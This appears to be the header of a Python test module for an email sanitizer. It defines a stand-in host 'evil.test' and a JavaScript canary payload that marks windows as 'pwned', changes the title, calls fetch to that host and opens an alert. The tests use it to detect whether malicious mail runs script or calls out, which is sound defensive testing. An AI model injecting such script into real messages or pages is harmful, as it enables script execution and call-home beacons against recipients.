"""Mail written to do harm, by family, and what it must not achieve.

`fragments` are pieces of HTML; `envelopes` are whole messages: alphabets, types, names, headers, nesting, polyglots,
invitations.
Every case tries to run RAN, or to reach EVIL: the tests look for traces of either.
"""

EVIL = "evil.test"
"""A host that nothing may be asked of."""
RAN = f"top.pwned=parent.pwned=self.pwned=1,document.title='PWNED',fetch('https://{EVIL}/ran'),alert(1)"
"""What a case would run: it leaves a mark in every window, changes the title, calls home, opens a dialog."""
